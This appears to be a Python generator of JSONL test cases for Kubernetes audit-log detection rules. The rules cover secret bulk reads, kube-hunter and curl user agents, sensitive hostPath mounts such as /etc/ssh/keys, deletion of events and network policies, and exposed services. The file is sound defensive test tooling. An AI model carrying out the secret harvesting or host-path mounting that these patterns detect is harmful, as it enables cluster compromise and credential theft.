case(R, "listed IP (with the list appended)", [R], ev("list", "pods", "default", ips=["198.51.100.66"]))
CASES[R][-1]["extra_rules"] = ("- list: kaudit_bad_source_ips\n  items: [198.51.100.66]\n"
                               "  append: true\n")
case(R, "other IP (with the list appended)", [], ev("list", "pods", "default", ips=["1.2.3.4"]))
CASES[R][-1]["extra_rules"] = CASES[R][-2]["extra_rules"]

R = DENIED
case(R, "403 get", [R], ev("get", "pods", "shop", "x", code=403))
case(R, "403 by kube-system SA", [], ev("get", "pods", "shop", "x", code=403, user=RSC))

R = "Untrusted Node Joined the Cluster"
case(R, "node created by a person", [R], ev("create", "nodes", name="evil"))
case(R, "node registers itself", [], ev("create", "nodes", name="n1", user=NODE))

# -- discovery --------------------------------------------------------------------------------
R = "Attack Tool User Agent"
case(R, "kube-hunter", [R], ev("get", uri="/api", ua="kube-hunter/0.6"))
case(R, "kubectl", [], ev("get", uri="/api"))

R = "Permission Enumeration"
case(R, "can-i --list", [R], ev("create", "selfsubjectrulesreviews",
                                body={"kind": "SelfSubjectRulesReview", "spec": {"namespace": "shop"}}))
case(R, "by the scheduler", [], ev("create", "selfsubjectrulesreviews",
                                   user={"username": "system:kube-scheduler"}))

R = "Permission Check"
case(R, "can-i create pods", [R], ev("create", "selfsubjectaccessreviews",
                                     body={"spec": {"resourceAttributes": {"verb": "create",
                                                                           "resource": "pods"}}}))
case(R, "by controller manager", [], ev("create", "selfsubjectaccessreviews", user=KCM))

# -- evasion / impact -------------------------------------------------------------------------
R = "Kubernetes Events Deleted"
case(R, "events deletecollection", [R], ev("deletecollection", "events", "shop"))
case(R, "events created", [], ev("create", "events", "shop", "e1", user=NODE))

R = "CoreDNS Configuration Changed"
case(R, "coredns patched", [R], ev("patch", "configmaps", "kube-system", "coredns", body={}))
case(R, "coredns read", [], ev("get", "configmaps", "kube-system", "coredns"))

R = "Network Policy Deleted"
case(R, "netpol deleted", [R], ev("delete", "networkpolicies", "shop", "deny-all"))
case(R, "netpol created", [], ev("create", "networkpolicies", "shop", "deny-all"))

R = "Host Path Persistent Volume Created"
case(R, "hostPath PV", [R], ev("create", "persistentvolumes", name="pv1",
                               body={"kind": "PersistentVolume",
                                     "spec": {"hostPath": {"path": "/"}}}))
case(R, "NFS PV", [], ev("create", "persistentvolumes", name="pv1",
                         body={"kind": "PersistentVolume", "spec": {"nfs": {"path": "/x"}}}))

R = "Namespace Deleted"
case(R, "namespace deleted", [R], ev("delete", "namespaces", name="shop"))
case(R, "namespace deleted by namespace controller", [],
     ev("delete", "namespaces", name="shop",
        user={"username": "system:serviceaccount:kube-system:namespace-controller"}))

R = "Workload or Service Deleted"
case(R, "deployment deleted", [R], ev("delete", "deployments", "shop", "web"))
case(R, "replicaset deleted", [], ev("delete", "replicasets", "shop", "web-1"))

# -- exposure ---------------------------------------------------------------------------------
R = "Service With External IPs"
case(R, "externalIPs", [R], ev("create", "services", "shop", "s1",
                               body={"kind": "Service", "spec": {"externalIPs": ["8.8.8.8"],
                                                                 "ports": [{"port": 53}]}}))
case(R, "ClusterIP", [], ev("create", "services", "shop", "s1",
                            body={"kind": "Service", "spec": {"type": "ClusterIP"}}))

R = "NodePort Service Created"
case(R, "NodePort", [R], ev("create", "services", "shop", "s1",
                            body={"kind": "Service", "spec": {"type": "NodePort",
                                                              "ports": [{"port": 80}]}}))
case(R, "NodePort 409", [], ev("create", "services", "shop", "s1", code=409,
                               body={"kind": "Service", "spec": {"type": "NodePort"}}))

R = "Ingress Without TLS Created"
case(R, "no tls", [R], ev("create", "ingresses", "shop", "i1",
                          body={"kind": "Ingress", "spec": {"rules": [{"host": "a"}]}}))
case(R, "tls", [], ev("create", "ingresses", "shop", "i1",
                      body={"kind": "Ingress", "spec": {"tls": [{"hosts": ["a"]}]}}))

R = "Namespace Created"
case(R, "namespace", [R], ev("create", "namespaces", name="tmp"))
case(R, "namespace by controller", [], ev("create", "namespaces", name="tmp", user=KCM))

R = "Container Image Outside Allowed Registries"
case(R, "disabled by default", [], ev("create", "pods", "default", "p1", body=pod(PLAIN)))
case(R, "enabled with an override", [R], ev("create", "pods", "default", "p1", body=pod(PLAIN)))
CASES[R][-1]["extra_rules"] = ("- rule: Container Image Outside Allowed Registries\n"
                               "  enabled: true\n  override:\n    enabled: replace\n")


# -- stateful rules: an EventList evaluated in one context --------------------------------------
# The whole list is one case: "expect" lists every alert of every event of the list. Rules that
# fire on each event alone are disabled by extra_rules so that only the aggregate alerts remain.

def at(e, sec):
    """Moves an event to 2025-03-10T09:00:00Z + sec seconds."""
    ts = datetime.datetime(2025, 3, 10, 9, 0, 0) + datetime.timedelta(seconds=sec)
    e["requestReceivedTimestamp"] = ts.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    e["stageTimestamp"] = (ts + datetime.timedelta(milliseconds=2)).strftime(
        "%Y-%m-%dT%H:%M:%S.%fZ")
    return e


def elist(events):
    return {"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {},
            "items": events}


def disable(*rules):
    return "".join("- rule: %s\n  enabled: false\n" % r for r in rules)


def scase(rule, name, expect, events, off=()):
    CASES.setdefault(rule, []).append({"name": name, "expect": sorted(expect),
                                       "event": elist(events)})
    if off:
        CASES[rule][-1]["extra_rules"] = disable(*off)


R = "Burst of Denied Requests by One Identity"
MANY = "Many Denied Requests by One Identity"
D403 = lambda i, sec, user=None: at(ev("get", "pods", "shop", "p%d" % i, code=403, user=user), sec)
scase(R, "26 denied in 5 seconds", [R], [D403(i, i * 0.2) for i in range(26)], off=[DENIED, MANY])
scase(R, "25 denied in 5 seconds is not more than 25", [],
      [D403(i, i * 0.2) for i in range(25)], off=[DENIED, MANY])
scase(R, "26 denied over 20 seconds", [], [D403(i, i * 0.8) for i in range(26)],
      off=[DENIED, MANY])

R = MANY
scase(R, "21 denied in 4 minutes", [R], [D403(i, i * 12) for i in range(21)], off=[DENIED])
scase(R, "20 denied is not more than 20", [], [D403(i, i * 12) for i in range(20)], off=[DENIED])
scase(R, "21 denied over 10 minutes", [], [D403(i, i * 30) for i in range(21)], off=[DENIED])
scase(R, "21 denied by two users", [],
      [D403(i, i, user=ALICE if i % 2 else APPSA) for i in range(21)], off=[DENIED])

R = "Bulk Secret Reads by One Identity"
SGET = lambda name, sec, user=None: at(ev("get", "secrets", "shop", name, user=user), sec)
SRP = "Secret Read by Person"
scase(R, "31 distinct secrets in 5 minutes", [R],
      [SGET("s%02d" % i, i * 10) for i in range(31)], off=[SRP])
scase(R, "the same 10 secrets 40 times", [],
      [SGET("s%02d" % (i % 10), i * 5) for i in range(40)], off=[SRP])
scase(R, "31 distinct secrets over 31 minutes", [],
      [SGET("s%02d" % i, i * 60) for i in range(31)], off=[SRP])
scase(R, "31 secrets read by the controller manager", [],
      [SGET("s%02d" % i, i, user=KCM) for i in range(31)], off=[SRP])

R = "User From New Source IP"
IPGET = lambda sec, ip, user=None: at(ev("get", "pods", "shop", "p1", ips=[ip], user=user), sec)
H = 3600
scase(R, "new address after learning", [R],
      [IPGET(0, "10.0.0.5"), IPGET(2 * H, "10.0.0.6"), IPGET(25 * H, "10.0.0.6"),
       IPGET(25 * H + 1, "10.20.30.40")])
scase(R, "new addresses while learning", [],
      [IPGET(0, "10.0.0.5"), IPGET(H, "10.0.0.6"), IPGET(23 * H, "10.0.0.7")])
scase(R, "a user first seen after learning only learns", [],
      [IPGET(0, "10.0.0.5"),
       IPGET(30 * H, "10.0.0.9", user={"username": "bob@example.com", "groups": ["devs"]})])
scase(R, "service accounts are not people", [],
      [IPGET(0, "10.0.0.5", user=APPSA), IPGET(25 * H, "10.7.7.7", user=APPSA)])

R = "Service Account Used With New User Agent"
UAGET = lambda sec, ua: at(ev("get", "configmaps", "shop", "cfg", user=APPSA, ua=ua), sec)
scase(R, "storefront token used by curl", [R],
      [UAGET(0, "storefront/1.4.2"), UAGET(25 * H, "storefront/1.4.2"),
       UAGET(25 * H + 5, "curl/8.5.0")])
scase(R, "same client after learning", [],
      [UAGET(0, "storefront/1.4.2"), UAGET(25 * H, "storefront/1.4.2")])

R = "RBAC Change Followed by Workload Change"
RB = lambda sec, user=None: at(ev("create", "rolebindings", "shop", "b1", user=user,
                                  body=binding("edit", [U("alice@example.com")],
                                               kind="RoleBinding")), sec)
DEP = lambda sec, user=None: at(ev("create", "deployments", "shop", "d1", user=user,
                                   body=deploy(PLAIN)), sec)
SEQ_OFF = [BIND, WRITE_WL]
scase(R, "binding then deployment in 5 minutes", [R], [RB(0), DEP(300)], off=SEQ_OFF)
scase(R, "binding then deployment after 11 minutes", [], [RB(0), DEP(660)], off=SEQ_OFF)
scase(R, "deployment then binding", [], [DEP(0), RB(60)], off=SEQ_OFF)
scase(R, "binding and deployment by two users", [], [RB(0), DEP(60, user=APPSA)], off=SEQ_OFF)


# -- hostPath prefixes (pmatch on the list field kaudit.pod.volumes.hostpath) ---------------------
R = "Sensitive Host Path Mounted"
HPM = "Host Path Mounted"
case(R, "below /etc", [R, HPM], ev("create", "pods", "default", "p1", body=pod(HP("/etc/ssh/keys"))))
case(R, "below /proc", [R, HPM], ev("create", "pods", "default", "p1", body=pod(HP("/proc/sys/kernel"))))
case(R, "below the containerd directory", [R, HPM],
     ev("create", "pods", "default", "p1", body=pod(HP("/var/lib/containerd/io.containerd.x"))))
case(R, "below /var is ordinary data", [HPM],
     ev("create", "pods", "default", "p1", body=pod(HP("/var/lib/app-data"))))
case(R, "/etc-backup/x is not below /etc", [HPM],
     ev("create", "pods", "default", "p1", body=pod(HP("/etc-backup/x"))))


def slug(name):
    return re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")


def main():
    for f in os.listdir(OUT):
        if f.endswith(".jsonl"):
            os.unlink(os.path.join(OUT, f))
    for rule, cases in CASES.items():
        with open(os.path.join(OUT, slug(rule) + ".jsonl"), "w") as fp:
            for c in cases:
                line = {"name": c["name"], "rule": rule, "expect": c["expect"]}
                if "extra_rules" in c:
                    line["extra_rules"] = c["extra_rules"]
                line["event"] = c["event"]
                fp.write(json.dumps(line, separators=(",", ":")) + "\n")
    print("%d rules, %d cases" % (len(CASES), sum(len(v) for v in CASES.values())))


if __name__ == "__main__":
    main()
